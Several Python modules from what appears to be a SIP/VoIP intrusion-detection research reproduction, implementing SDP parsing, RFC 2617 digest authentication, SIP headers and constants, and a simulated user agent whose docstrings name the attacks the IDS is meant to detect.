The IDS depends on SDP for cross-protocol correlation: the ``c=`` line
and ``m=audio`` port in an INVITE/200 exchange tell the Distiller which
(IP, port) pair the upcoming RTP trail will use, letting it link the RTP
trail to the SIP trail of the same call.  The Call Hijack attack works
precisely by shipping a forged SDP with a new connection address in a
re-INVITE.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.net.addr import Endpoint, IPv4Address


class SdpError(ValueError):
    """Raised on malformed SDP."""


@dataclass(frozen=True, slots=True)
class MediaDescription:
    """One ``m=`` section."""

    media: str  # "audio", "video", ...
    port: int
    protocol: str  # "RTP/AVP"
    formats: tuple[str, ...]  # payload type numbers as strings
    connection: IPv4Address | None = None  # per-media c= override
    attributes: tuple[str, ...] = ()

    def endpoint(self, session_connection: IPv4Address | None) -> Endpoint:
        addr = self.connection if self.connection is not None else session_connection
        if addr is None:
            raise SdpError(f"media {self.media!r} has no connection address")
        return Endpoint(addr, self.port)


@dataclass(frozen=True, slots=True)
class SessionDescription:
    """A parsed SDP body."""

    origin_user: str
    session_id: str
    session_version: str
    origin_address: IPv4Address
    session_name: str = "-"
    connection: IPv4Address | None = None
    media: tuple[MediaDescription, ...] = ()
    attributes: tuple[str, ...] = ()

    @classmethod
    def parse(cls, body: bytes | str) -> "SessionDescription":
        text = body.decode("utf-8") if isinstance(body, bytes) else body
        lines = [ln for ln in text.replace("\r\n", "\n").split("\n") if ln.strip()]
        origin_user = session_id = session_version = ""
        origin_address: IPv4Address | None = None
        session_name = "-"
        connection: IPv4Address | None = None
        session_attrs: list[str] = []
        media: list[MediaDescription] = []
        current: dict | None = None  # builder for the open m= section

        def close_media() -> None:
            nonlocal current
            if current is not None:
                media.append(
                    MediaDescription(
                        media=current["media"],
                        port=current["port"],
                        protocol=current["protocol"],
                        formats=tuple(current["formats"]),
                        connection=current["connection"],
                        attributes=tuple(current["attributes"]),
                    )
                )
                current = None

        for line in lines:
            if len(line) < 2 or line[1] != "=":
                raise SdpError(f"malformed SDP line: {line!r}")
            key, value = line[0], line[2:].strip()
            if key == "o":
                parts = value.split()
                if len(parts) != 6:
                    raise SdpError(f"malformed o= line: {line!r}")
                origin_user, session_id, session_version = parts[0], parts[1], parts[2]
                if parts[3] != "IN" or parts[4] != "IP4":
                    raise SdpError(f"unsupported origin network type: {line!r}")
                origin_address = IPv4Address.parse(parts[5])
            elif key == "s":
                session_name = value
            elif key == "c":
                parts = value.split()
                if len(parts) != 3 or parts[0] != "IN" or parts[1] != "IP4":
                    raise SdpError(f"unsupported c= line: {line!r}")
                addr = IPv4Address.parse(parts[2].split("/")[0])
                if current is None:
                    connection = addr
                else:
                    current["connection"] = addr
            elif key == "m":
                close_media()
                parts = value.split()
                if len(parts) < 4 or not parts[1].isdigit():
                    raise SdpError(f"malformed m= line: {line!r}")
                current = {
                    "media": parts[0],
                    "port": int(parts[1]),
                    "protocol": parts[2],
                    "formats": parts[3:],
                    "connection": None,
                    "attributes": [],
                }
            elif key == "a":
                if current is None:
                    session_attrs.append(value)
                else:
                    current["attributes"].append(value)
            # v=, t=, b=, etc. are accepted and ignored.
        close_media()
        if origin_address is None:
            raise SdpError("SDP missing o= line")
        return cls(
            origin_user=origin_user,
            session_id=session_id,
            session_version=session_version,
            origin_address=origin_address,
            session_name=session_name,
            connection=connection,
            media=tuple(media),
            attributes=tuple(session_attrs),
        )

    def encode(self) -> bytes:
        lines = ["v=0"]
        lines.append(
            f"o={self.origin_user or '-'} {self.session_id} {self.session_version} "
            f"IN IP4 {self.origin_address}"
        )
        lines.append(f"s={self.session_name}")
        if self.connection is not None:
            lines.append(f"c=IN IP4 {self.connection}")
        lines.append("t=0 0")
        lines.extend(f"a={attr}" for attr in self.attributes)
        for m in self.media:
            lines.append(f"m={m.media} {m.port} {m.protocol} {' '.join(m.formats)}")
            if m.connection is not None:
                lines.append(f"c=IN IP4 {m.connection}")
            lines.extend(f"a={attr}" for attr in m.attributes)
        return ("\r\n".join(lines) + "\r\n").encode("utf-8")

    def audio_endpoint(self) -> Endpoint:
        """The (IP, port) where this party wants to receive audio RTP."""
        for m in self.media:
            if m.media == "audio":
                return m.endpoint(self.connection)
        raise SdpError("SDP has no audio media section")


def audio_offer(
    address: IPv4Address | str,
    port: int,
    session_id: str = "1",
    version: str = "1",
    user: str = "-",
    payload_types: tuple[str, ...] = ("0",),  # 0 = PCMU/G.711u
) -> SessionDescription:
    """Build the canonical one-stream audio offer used by the soft-phones."""
    addr = address if isinstance(address, IPv4Address) else IPv4Address.parse(address)
    return SessionDescription(
        origin_user=user,
        session_id=session_id,
        session_version=version,
        origin_address=addr,
        connection=addr,
        media=(
            MediaDescription(
                media="audio",
                port=port,
                protocol="RTP/AVP",
                formats=payload_types,
                attributes=("rtpmap:0 PCMU/8000",),
            ),
        ),
    )
