"""HTTP Digest authentication as used by SIP (RFC 3261 §22 / RFC 2617).

The registrar challenges REGISTER requests with ``WWW-Authenticate:
Digest``; clients answer with an ``Authorization`` header.  The password
guessing attack of Section 3.3 replays REGISTER with varying (wrong)
responses — the stateful IDS event watches exactly this exchange, so the
substrate implements real MD5 digests rather than placeholder strings.
"""

from __future__ import annotations

import hashlib
import random
from dataclasses import dataclass


class AuthError(ValueError):
    """Raised on malformed credentials or challenges."""


def _md5_hex(text: str) -> str:
    return hashlib.md5(text.encode("utf-8")).hexdigest()


def _parse_kv_list(text: str) -> dict[str, str]:
    """Parse ``key="value", key2=value2`` comma lists (quoted-string aware)."""
    out: dict[str, str] = {}
    i = 0
    n = len(text)
    while i < n:
        while i < n and text[i] in " ,\t":
            i += 1
        if i >= n:
            break
        eq = text.find("=", i)
        if eq < 0:
            raise AuthError(f"malformed auth parameter list: {text!r}")
        key = text[i:eq].strip().lower()
        i = eq + 1
        if i < n and text[i] == '"':
            end = text.find('"', i + 1)
            if end < 0:
                raise AuthError(f"unterminated quoted string: {text!r}")
            out[key] = text[i + 1 : end]
            i = end + 1
        else:
            end = text.find(",", i)
            if end < 0:
                end = n
            out[key] = text[i:end].strip()
            i = end
    return out


@dataclass(frozen=True, slots=True)
class DigestChallenge:
    """A ``WWW-Authenticate: Digest`` challenge."""

    realm: str
    nonce: str
    algorithm: str = "MD5"
    opaque: str | None = None

    @classmethod
    def parse(cls, header_value: str) -> "DigestChallenge":
        scheme, _, rest = header_value.partition(" ")
        if scheme.strip().lower() != "digest":
            raise AuthError(f"not a Digest challenge: {header_value!r}")
        kv = _parse_kv_list(rest)
        if "realm" not in kv or "nonce" not in kv:
            raise AuthError(f"challenge missing realm/nonce: {header_value!r}")
        return cls(
            realm=kv["realm"],
            nonce=kv["nonce"],
            algorithm=kv.get("algorithm", "MD5"),
            opaque=kv.get("opaque"),
        )

    def encode(self) -> str:
        out = f'Digest realm="{self.realm}", nonce="{self.nonce}", algorithm={self.algorithm}'
        if self.opaque:
            out += f', opaque="{self.opaque}"'
        return out


@dataclass(frozen=True, slots=True)
class DigestCredentials:
    """An ``Authorization: Digest`` response."""

    username: str
    realm: str
    nonce: str
    uri: str
    response: str
    algorithm: str = "MD5"

    @classmethod
    def parse(cls, header_value: str) -> "DigestCredentials":
        scheme, _, rest = header_value.partition(" ")
        if scheme.strip().lower() != "digest":
            raise AuthError(f"not Digest credentials: {header_value!r}")
        kv = _parse_kv_list(rest)
        missing = {"username", "realm", "nonce", "uri", "response"} - kv.keys()
        if missing:
            raise AuthError(f"credentials missing {sorted(missing)}: {header_value!r}")
        return cls(
            username=kv["username"],
            realm=kv["realm"],
            nonce=kv["nonce"],
            uri=kv["uri"],
            response=kv["response"],
            algorithm=kv.get("algorithm", "MD5"),
        )

    def encode(self) -> str:
        return (
            f'Digest username="{self.username}", realm="{self.realm}", '
            f'nonce="{self.nonce}", uri="{self.uri}", response="{self.response}", '
            f"algorithm={self.algorithm}"
        )


def compute_response(
    username: str, realm: str, password: str, method: str, uri: str, nonce: str
) -> str:
    """RFC 2617 request-digest (no qop, matching classic SIP deployments)."""
    ha1 = _md5_hex(f"{username}:{realm}:{password}")
    ha2 = _md5_hex(f"{method}:{uri}")
    return _md5_hex(f"{ha1}:{nonce}:{ha2}")


def answer_challenge(
    challenge: DigestChallenge,
    username: str,
    password: str,
    method: str,
    uri: str,
) -> DigestCredentials:
    """Produce credentials answering ``challenge``."""
    return DigestCredentials(
        username=username,
        realm=challenge.realm,
        nonce=challenge.nonce,
        uri=uri,
        response=compute_response(username, challenge.realm, password, method, uri, challenge.nonce),
    )


def verify_credentials(
    creds: DigestCredentials, password: str, method: str, expected_nonce: str | None = None
) -> bool:
    """Check a digest response against the stored password."""
    if expected_nonce is not None and creds.nonce != expected_nonce:
        return False
    expected = compute_response(
        creds.username, creds.realm, password, method, creds.uri, creds.nonce
    )
    return creds.response == expected


def generate_nonce(rng: random.Random) -> str:
    """A fresh 128-bit nonce from the injected RNG (deterministic in sims)."""
    return f"{rng.getrandbits(128):032x}"
