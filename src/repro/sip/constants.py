"""SIP protocol constants (RFC 3261 plus the MESSAGE extension, RFC 3428).

The paper's scenarios use: INVITE / ACK / BYE / CANCEL / REGISTER /
OPTIONS (core methods), re-INVITE (an INVITE inside an existing dialog,
used both for legitimate mobility and for the Call Hijack attack), and
MESSAGE (SIP instant messaging, target of the Fake IM attack).
"""

from __future__ import annotations

SIP_VERSION = "SIP/2.0"
DEFAULT_SIP_PORT = 5060

# Core methods (RFC 3261) + MESSAGE (RFC 3428).
METHOD_INVITE = "INVITE"
METHOD_ACK = "ACK"
METHOD_BYE = "BYE"
METHOD_CANCEL = "CANCEL"
METHOD_REGISTER = "REGISTER"
METHOD_OPTIONS = "OPTIONS"
METHOD_MESSAGE = "MESSAGE"

ALL_METHODS = frozenset(
    {
        METHOD_INVITE,
        METHOD_ACK,
        METHOD_BYE,
        METHOD_CANCEL,
        METHOD_REGISTER,
        METHOD_OPTIONS,
        METHOD_MESSAGE,
    }
)

# Status codes used by the stack and the rules.
STATUS_TRYING = 100
STATUS_RINGING = 180
STATUS_OK = 200
STATUS_BAD_REQUEST = 400
STATUS_UNAUTHORIZED = 401
STATUS_FORBIDDEN = 403
STATUS_NOT_FOUND = 404
STATUS_PROXY_AUTH_REQUIRED = 407
STATUS_REQUEST_TIMEOUT = 408
STATUS_BUSY_HERE = 486
STATUS_REQUEST_TERMINATED = 487
STATUS_SERVER_ERROR = 500
STATUS_NOT_IMPLEMENTED = 501

REASON_PHRASES: dict[int, str] = {
    100: "Trying",
    180: "Ringing",
    181: "Call Is Being Forwarded",
    183: "Session Progress",
    200: "OK",
    202: "Accepted",
    300: "Multiple Choices",
    301: "Moved Permanently",
    302: "Moved Temporarily",
    400: "Bad Request",
    401: "Unauthorized",
    403: "Forbidden",
    404: "Not Found",
    405: "Method Not Allowed",
    407: "Proxy Authentication Required",
    408: "Request Timeout",
    415: "Unsupported Media Type",
    480: "Temporarily Unavailable",
    481: "Call/Transaction Does Not Exist",
    482: "Loop Detected",
    483: "Too Many Hops",
    486: "Busy Here",
    487: "Request Terminated",
    488: "Not Acceptable Here",
    500: "Server Internal Error",
    501: "Not Implemented",
    503: "Service Unavailable",
    600: "Busy Everywhere",
    603: "Decline",
    604: "Does Not Exist Anywhere",
}


def reason_phrase(code: int) -> str:
    """Best-effort reason phrase for a status code."""
    if code in REASON_PHRASES:
        return REASON_PHRASES[code]
    generic = {1: "Provisional", 2: "Success", 3: "Redirection",
               4: "Client Error", 5: "Server Error", 6: "Global Failure"}
    return generic.get(code // 100, "Unknown")


# RFC 3261 magic cookie that must prefix every Via branch parameter.
BRANCH_MAGIC_COOKIE = "z9hG4bK"

# Compact header forms (RFC 3261 section 7.3.3).
COMPACT_HEADERS: dict[str, str] = {
    "v": "Via",
    "f": "From",
    "t": "To",
    "i": "Call-ID",
    "m": "Contact",
    "e": "Content-Encoding",
    "l": "Content-Length",
    "c": "Content-Type",
    "s": "Subject",
    "k": "Supported",
}
