"""SIP headers: an order-preserving multi-map plus typed header values.

SIP allows repeated headers (Via, Route, ...) whose relative order is
semantically significant, and compact forms (``v:`` for ``Via:``).
:class:`HeaderTable` models that.  The typed values — :class:`Via`,
:class:`NameAddr`, :class:`CSeq` — parse the fields the stack and the
IDS rules actually reason about (branch, tags, sequence numbers).
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.sip.constants import COMPACT_HEADERS
from repro.sip.uri import SipUri


class HeaderError(ValueError):
    """Raised when a header value cannot be parsed."""


def canonical_name(name: str) -> str:
    """Expand compact forms and normalise capitalisation.

    ``v`` → ``Via``; ``content-length`` → ``Content-Length``; unknown
    names are title-cased per token (``x-foo`` → ``X-Foo``).
    """
    lowered = name.strip().lower()
    if lowered in COMPACT_HEADERS:
        return COMPACT_HEADERS[lowered]
    specials = {
        "call-id": "Call-ID",
        "cseq": "CSeq",
        "www-authenticate": "WWW-Authenticate",
        "mime-version": "MIME-Version",
        "sip-etag": "SIP-ETag",
    }
    if lowered in specials:
        return specials[lowered]
    return "-".join(part.capitalize() for part in lowered.split("-"))


class HeaderTable:
    """Order-preserving, case-insensitive multi-map of SIP headers."""

    __slots__ = ("_items",)

    def __init__(self, items: list[tuple[str, str]] | None = None) -> None:
        self._items: list[tuple[str, str]] = []
        if items:
            for name, value in items:
                self.add(name, value)

    def add(self, name: str, value: str) -> None:
        self._items.append((canonical_name(name), value.strip()))

    def set(self, name: str, value: str) -> None:
        """Replace all instances of ``name`` with a single value."""
        canon = canonical_name(name)
        self._items = [(n, v) for n, v in self._items if n != canon]
        self._items.append((canon, value.strip()))

    def get(self, name: str, default: str | None = None) -> str | None:
        canon = canonical_name(name)
        for n, v in self._items:
            if n == canon:
                return v
        return default

    def get_all(self, name: str) -> list[str]:
        canon = canonical_name(name)
        return [v for n, v in self._items if n == canon]

    def remove(self, name: str) -> None:
        canon = canonical_name(name)
        self._items = [(n, v) for n, v in self._items if n != canon]

    def remove_first(self, name: str) -> None:
        canon = canonical_name(name)
        for i, (n, _) in enumerate(self._items):
            if n == canon:
                del self._items[i]
                return

    def insert_first(self, name: str, value: str) -> None:
        """Prepend — used for Via stacking at proxies."""
        self._items.insert(0, (canonical_name(name), value.strip()))

    def __contains__(self, name: str) -> bool:
        return self.get(name) is not None

    def __len__(self) -> int:
        return len(self._items)

    def items(self) -> list[tuple[str, str]]:
        return list(self._items)

    def copy(self) -> "HeaderTable":
        table = HeaderTable()
        table._items = list(self._items)
        return table


def _parse_params(text: str) -> tuple[tuple[str, str | None], ...]:
    """Parse ``;name=value;flag`` parameter tails."""
    params: list[tuple[str, str | None]] = []
    for chunk in text.split(";"):
        chunk = chunk.strip()
        if not chunk:
            continue
        name, eq, value = chunk.partition("=")
        params.append((name.strip().lower(), value.strip().strip('"') if eq else None))
    return tuple(params)


def _format_params(params: tuple[tuple[str, str | None], ...]) -> str:
    out = ""
    for name, value in params:
        out += f";{name}" if value is None else f";{name}={value}"
    return out


@dataclass(frozen=True, slots=True)
class Via:
    """A Via header value: ``SIP/2.0/UDP host:port;branch=...``."""

    transport: str
    host: str
    port: int | None = None
    params: tuple[tuple[str, str | None], ...] = field(default=())

    @classmethod
    def parse(cls, text: str) -> "Via":
        head, _, param_text = text.partition(";")
        parts = head.split()
        if len(parts) != 2:
            raise HeaderError(f"malformed Via: {text!r}")
        protocol, sent_by = parts
        proto_parts = protocol.split("/")
        if len(proto_parts) != 3 or proto_parts[0].upper() != "SIP":
            raise HeaderError(f"malformed Via protocol: {text!r}")
        transport = proto_parts[2].upper()
        host = sent_by
        port: int | None = None
        if ":" in sent_by:
            host, _, port_text = sent_by.rpartition(":")
            if not port_text.isdigit():
                raise HeaderError(f"bad Via port: {text!r}")
            port = int(port_text)
        return cls(
            transport=transport,
            host=host,
            port=port,
            params=_parse_params(param_text),
        )

    def __str__(self) -> str:
        sent_by = self.host if self.port is None else f"{self.host}:{self.port}"
        return f"SIP/2.0/{self.transport} {sent_by}{_format_params(self.params)}"

    def param(self, name: str) -> str | None:
        for key, value in self.params:
            if key == name.lower():
                return value
        return None

    @property
    def branch(self) -> str | None:
        return self.param("branch")

    def with_param(self, name: str, value: str | None) -> "Via":
        params = tuple(p for p in self.params if p[0] != name.lower()) + ((name.lower(), value),)
        return Via(self.transport, self.host, self.port, params)


@dataclass(frozen=True, slots=True)
class NameAddr:
    """From/To/Contact value: ``"Display" <sip:user@host>;tag=...``."""

    uri: SipUri
    display_name: str = ""
    params: tuple[tuple[str, str | None], ...] = field(default=())

    @classmethod
    def parse(cls, text: str) -> "NameAddr":
        text = text.strip()
        display = ""
        if text.startswith('"'):
            end = text.find('"', 1)
            if end < 0:
                raise HeaderError(f"unterminated display name: {text!r}")
            display = text[1:end]
            text = text[end + 1 :].strip()
        if "<" in text:
            pre, _, rest = text.partition("<")
            if pre.strip() and not display:
                display = pre.strip()
            uri_text, sep, param_text = rest.partition(">")
            if not sep:
                raise HeaderError(f"unterminated angle bracket: {text!r}")
            uri = SipUri.parse(uri_text)
            params = _parse_params(param_text.lstrip(";"))
        else:
            # addr-spec form: params after the first ';' belong to the header.
            uri_text, _, param_text = text.partition(";")
            uri = SipUri.parse(uri_text)
            params = _parse_params(param_text)
        return cls(uri=uri, display_name=display, params=params)

    def __str__(self) -> str:
        out = f'"{self.display_name}" ' if self.display_name else ""
        out += f"<{self.uri}>"
        out += _format_params(self.params)
        return out

    def param(self, name: str) -> str | None:
        for key, value in self.params:
            if key == name.lower():
                return value
        return None

    @property
    def tag(self) -> str | None:
        return self.param("tag")

    def with_tag(self, tag: str) -> "NameAddr":
        params = tuple(p for p in self.params if p[0] != "tag") + (("tag", tag),)
        return NameAddr(self.uri, self.display_name, params)


@dataclass(frozen=True, slots=True)
class CSeq:
    """CSeq value: sequence number + method."""

    number: int
    method: str

    @classmethod
    def parse(cls, text: str) -> "CSeq":
        parts = text.split()
        if len(parts) != 2 or not parts[0].isdigit():
            raise HeaderError(f"malformed CSeq: {text!r}")
        return cls(number=int(parts[0]), method=parts[1].upper())

    def __str__(self) -> str:
        return f"{self.number} {self.method}"

    def next_for(self, method: str) -> "CSeq":
        return CSeq(self.number + 1, method.upper())
