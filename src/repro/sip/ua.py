"""SIP User Agent: registration, calls, instant messages.

The UA composes the transport/transaction layers into the behaviour the
paper's clients (Kphone, Windows Messenger, X-Lite) exhibit on the wire:

* REGISTER with automatic digest-auth retry after ``401 Unauthorized``;
* outgoing INVITE with SDP offer → ACK on 200, dialog creation;
* incoming INVITE → 180 Ringing, then 200 with an SDP answer after a
  configurable answer delay, dialog creation on ACK;
* in-dialog BYE and re-INVITE, sent **directly to the peer's Contact**
  (and accepted from anywhere, as long as Call-ID + tags + CSeq match —
  the standard-compliant behaviour the BYE/Hijack attacks exploit);
* out-of-dialog MESSAGE (RFC 3428 instant messaging, the Fake IM target).

Out-of-dialog requests are routed via the configured proxy; in-dialog
requests go straight to the remote target learned from Contact.
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass, field
from typing import Callable

from repro.net.addr import Endpoint, IPv4Address
from repro.net.stack import HostStack
from repro.sim.eventloop import EventLoop
from repro.sip import auth as sip_auth
from repro.sip.constants import (
    DEFAULT_SIP_PORT,
    METHOD_ACK,
    METHOD_BYE,
    METHOD_CANCEL,
    METHOD_INVITE,
    METHOD_MESSAGE,
    METHOD_REGISTER,
    STATUS_OK,
    STATUS_REQUEST_TERMINATED,
    STATUS_RINGING,
    STATUS_TRYING,
    STATUS_UNAUTHORIZED,
)
from repro.sip.dialog import Dialog, DialogState, DialogStore
from repro.sip.headers import NameAddr, Via
from repro.sip.message import SipRequest, SipResponse
from repro.sip.sdp import SdpError, SessionDescription
from repro.sip.transaction import SipTransport, TransactionLayer
from repro.sip.uri import SipUri


def resolve_uri(uri: SipUri, default_port: int = DEFAULT_SIP_PORT) -> Endpoint:
    """Resolve a SIP URI whose host is a literal IPv4 address."""
    return Endpoint(IPv4Address.parse(uri.host), uri.port or default_port)


@dataclass(slots=True)
class RegistrationResult:
    success: bool
    status: int
    attempts: int


@dataclass(slots=True)
class UaConfig:
    """Identity and environment for one user agent."""

    aor: SipUri  # address of record, e.g. sip:alice@example.com
    display_name: str = ""
    password: str = ""
    proxy: Endpoint | None = None  # outbound proxy / registrar
    port: int = DEFAULT_SIP_PORT
    answer_delay: float = 0.2  # seconds of simulated "ringing" before 200
    auto_answer: bool = True


class UserAgent:
    """A complete SIP UA bound to a :class:`~repro.net.stack.HostStack`."""

    def __init__(self, stack: HostStack, loop: EventLoop, config: UaConfig) -> None:
        self.stack = stack
        self.loop = loop
        self.config = config
        self.transport = SipTransport(stack, config.port)
        self.txn = TransactionLayer(self.transport, loop)
        self.txn.on_request = self._on_request
        self.dialogs = DialogStore()
        self._tag_counter = itertools.count(1)
        self._call_id_counter = itertools.count(1)
        self._cseq_out = itertools.count(1)
        self.registered = False
        # INVITE server transactions whose 2xx awaits an ACK (keyed by
        # dialog key) — the UAS core stops 200-retransmission on ACK.
        self._pending_acks: dict = {}
        # Outgoing INVITEs not yet finally answered, keyed by Call-ID —
        # what CANCEL operates on.
        self._pending_invites_out: dict[str, tuple[SipRequest, Endpoint]] = {}
        # Incoming INVITEs still ringing, keyed by Call-ID.
        self._pending_invites_in: dict[str, tuple[SipRequest, object, Dialog]] = {}

        # Application hooks (set by the soft-phone layer).
        self.on_call_established: Callable[[Dialog, SessionDescription | None], None] | None = None
        self.on_call_ended: Callable[[Dialog, bool], None] | None = None
        self.on_reinvite: Callable[[Dialog, SessionDescription | None], None] | None = None
        self.on_message: Callable[[NameAddr, str, Endpoint, float], None] | None = None
        self.on_incoming_call: Callable[[Dialog, SessionDescription | None], None] | None = None
        # Supplies the SDP answer for incoming (re-)INVITEs; must be set
        # when auto_answer is enabled and media is expected.
        self.answer_sdp_factory: Callable[
            [Dialog, SessionDescription | None], SessionDescription | None
        ] = lambda dialog, offer: None

    # -- identity helpers ---------------------------------------------------

    @property
    def contact_uri(self) -> SipUri:
        """Where this UA can be reached directly (IP-literal Contact)."""
        return SipUri(user=self.config.aor.user, host=str(self.stack.ip), port=self.config.port)

    def _new_tag(self) -> str:
        return f"{self.stack.name}-tag-{next(self._tag_counter)}"

    def _new_call_id(self) -> str:
        return f"{next(self._call_id_counter)}-{self.stack.name}@{self.stack.ip}"

    def _base_request(
        self,
        method: str,
        uri: SipUri,
        to_addr: NameAddr,
        from_tag: str,
        call_id: str,
        cseq_number: int,
    ) -> SipRequest:
        request = SipRequest(method=method, uri=uri)
        via = Via(
            transport="UDP",
            host=str(self.stack.ip),
            port=self.config.port,
            params=(("branch", self.txn.new_branch()),),
        )
        request.headers.add("Via", str(via))
        request.headers.add("Max-Forwards", "70")
        from_addr = NameAddr(uri=self.config.aor, display_name=self.config.display_name)
        request.headers.add("From", str(from_addr.with_tag(from_tag)))
        request.headers.add("To", str(to_addr))
        request.headers.add("Call-ID", call_id)
        request.headers.add("CSeq", f"{cseq_number} {method}")
        request.headers.add("Contact", f"<{self.contact_uri}>")
        request.headers.set("Content-Length", "0")
        return request

    def _route_out_of_dialog(self, uri: SipUri) -> Endpoint:
        if self.config.proxy is not None:
            return self.config.proxy
        return resolve_uri(uri)

    # -- registration ---------------------------------------------------------

    def register(
        self,
        expires: int = 3600,
        on_result: Callable[[RegistrationResult], None] | None = None,
    ) -> None:
        """REGISTER with the configured registrar, answering one 401 challenge."""
        self._send_register(
            expires, on_result, challenge=None, attempt=1, call_id=self._new_call_id()
        )

    def unregister(self, on_result: Callable[[RegistrationResult], None] | None = None) -> None:
        self.register(expires=0, on_result=on_result)

    def _send_register(
        self,
        expires: int,
        on_result: Callable[[RegistrationResult], None] | None,
        challenge: sip_auth.DigestChallenge | None,
        attempt: int,
        call_id: str,
    ) -> None:
        registrar_uri = SipUri(user="", host=self.config.aor.host)
        request = self._base_request(
            METHOD_REGISTER,
            registrar_uri,
            to_addr=NameAddr(uri=self.config.aor),
            from_tag=self._new_tag(),
            call_id=call_id,  # the auth retry stays in the same session
            cseq_number=next(self._cseq_out),
        )
        request.headers.add("Expires", str(expires))
        if challenge is not None:
            creds = sip_auth.answer_challenge(
                challenge,
                username=self.config.aor.user,
                password=self.config.password,
                method=METHOD_REGISTER,
                uri=str(registrar_uri),
            )
            request.headers.add("Authorization", creds.encode())

        def handle(response: SipResponse, now: float) -> None:
            if response.status == STATUS_UNAUTHORIZED and challenge is None:
                www = response.headers.get("WWW-Authenticate")
                if www is not None:
                    try:
                        parsed = sip_auth.DigestChallenge.parse(www)
                    except sip_auth.AuthError:
                        parsed = None
                    if parsed is not None:
                        self._send_register(expires, on_result, parsed, attempt + 1, call_id)
                        return
            self.registered = response.status == STATUS_OK and expires > 0
            if on_result is not None:
                on_result(RegistrationResult(response.status == STATUS_OK, response.status, attempt))

        def timeout() -> None:
            if on_result is not None:
                on_result(RegistrationResult(False, 0, attempt))

        self.txn.send_request(request, self._route_out_of_dialog(registrar_uri), handle, timeout)

    # -- outgoing calls --------------------------------------------------------

    def invite(
        self,
        target: SipUri,
        offer: SessionDescription | None,
        on_established: Callable[[Dialog, SessionDescription | None], None] | None = None,
        on_failed: Callable[[int], None] | None = None,
    ) -> str:
        """Start a call; returns the Call-ID (the session's stable name)."""
        call_id = self._new_call_id()
        from_tag = self._new_tag()
        request = self._base_request(
            METHOD_INVITE,
            target,
            to_addr=NameAddr(uri=target),
            from_tag=from_tag,
            call_id=call_id,
            cseq_number=next(self._cseq_out),
        )
        if offer is not None:
            request._set_body(offer.encode(), "application/sdp")

        def handle(response: SipResponse, now: float) -> None:
            if response.status_class == 1:
                return  # ringing; nothing to do yet
            self._pending_invites_out.pop(call_id, None)
            if response.status == STATUS_OK:
                self._complete_outgoing_call(request, response, offer, on_established)
            elif on_failed is not None:
                on_failed(response.status)

        def timeout() -> None:
            self._pending_invites_out.pop(call_id, None)
            if on_failed is not None:
                on_failed(0)

        destination = self._route_out_of_dialog(target)
        self._pending_invites_out[call_id] = (request, destination)
        self.txn.send_request(request, destination, handle, timeout)
        return call_id

    def cancel(self, call_id: str, on_done: Callable[[int], None] | None = None) -> bool:
        """CANCEL a not-yet-answered outgoing INVITE (RFC 3261 §9).

        Returns False when there is nothing to cancel (already answered).
        The call itself concludes with the 487 the callee then sends.
        """
        pending = self._pending_invites_out.get(call_id)
        if pending is None:
            return False
        invite, destination = pending
        cancel = SipRequest(method=METHOD_CANCEL, uri=invite.uri)
        via = Via(
            transport="UDP",
            host=str(self.stack.ip),
            port=self.config.port,
            params=(("branch", self.txn.new_branch()),),
        )
        cancel.headers.add("Via", str(via))
        cancel.headers.add("Max-Forwards", "70")
        cancel.headers.add("From", invite.headers.get("From") or "")
        cancel.headers.add("To", invite.headers.get("To") or "")
        cancel.headers.add("Call-ID", call_id)
        cancel.headers.add("CSeq", f"{invite.cseq.number} {METHOD_CANCEL}")
        cancel.headers.set("Content-Length", "0")

        def handle(response: SipResponse, now: float) -> None:
            if on_done is not None:
                on_done(response.status)

        self.txn.send_request(cancel, destination, handle)
        return True

    def _complete_outgoing_call(
        self,
        invite: SipRequest,
        response: SipResponse,
        offer: SessionDescription | None,
        on_established: Callable[[Dialog, SessionDescription | None], None] | None,
    ) -> None:
        remote_tag = response.to_addr.tag or ""
        existing_key = (invite.call_id, invite.from_addr.tag or "", remote_tag)
        existing = self.dialogs._dialogs.get(existing_key)
        if existing is not None:
            # Retransmitted 200: our ACK was lost — just re-ACK.
            self._send_ack(existing)
            return
        contact = response.contact
        remote_target = contact.uri if contact is not None else invite.uri
        answer = _parse_sdp_body(response)
        dialog = Dialog(
            call_id=invite.call_id,
            local_tag=invite.from_addr.tag or "",
            remote_tag=remote_tag,
            local_uri=self.config.aor,
            remote_uri=invite.to_addr.uri,
            remote_target=remote_target,
            is_uac=True,
            local_seq=invite.cseq.number,
        )
        if offer is not None:
            dialog.local_media = offer.audio_endpoint()
        if answer is not None:
            try:
                dialog.remote_media = answer.audio_endpoint()
            except SdpError:
                pass
        dialog.confirm()
        self.dialogs.add(dialog)
        self._send_ack(dialog)
        if on_established is not None:
            on_established(dialog, answer)
        if self.on_call_established is not None:
            self.on_call_established(dialog, answer)

    def _send_ack(self, dialog: Dialog) -> None:
        """ACK for a 2xx: a standalone in-dialog request to the remote target."""
        ack = SipRequest(method=METHOD_ACK, uri=dialog.remote_target)
        via = Via(
            transport="UDP",
            host=str(self.stack.ip),
            port=self.config.port,
            params=(("branch", self.txn.new_branch()),),
        )
        ack.headers.add("Via", str(via))
        ack.headers.add("Max-Forwards", "70")
        ack.headers.add("From", str(dialog.local_addr()))
        ack.headers.add("To", str(dialog.remote_addr()))
        ack.headers.add("Call-ID", dialog.call_id)
        ack.headers.add("CSeq", f"{dialog.local_seq} ACK")
        ack.headers.set("Content-Length", "0")
        self.txn.send_stateless(ack, resolve_uri(dialog.remote_target))

    # -- in-dialog requests ------------------------------------------------------

    def _in_dialog_request(self, dialog: Dialog, method: str) -> SipRequest:
        request = SipRequest(method=method, uri=dialog.remote_target)
        via = Via(
            transport="UDP",
            host=str(self.stack.ip),
            port=self.config.port,
            params=(("branch", self.txn.new_branch()),),
        )
        request.headers.add("Via", str(via))
        request.headers.add("Max-Forwards", "70")
        request.headers.add("From", str(dialog.local_addr()))
        request.headers.add("To", str(dialog.remote_addr()))
        request.headers.add("Call-ID", dialog.call_id)
        request.headers.add("CSeq", f"{dialog.next_local_seq()} {method}")
        request.headers.add("Contact", f"<{self.contact_uri}>")
        request.headers.set("Content-Length", "0")
        return request

    def bye(self, dialog: Dialog, on_done: Callable[[int], None] | None = None) -> None:
        """Tear down a confirmed dialog."""
        request = self._in_dialog_request(dialog, METHOD_BYE)
        dialog.terminate()
        self.dialogs.remove(dialog)

        def handle(response: SipResponse, now: float) -> None:
            if on_done is not None:
                on_done(response.status)

        self.txn.send_request(request, resolve_uri(dialog.remote_target), handle)
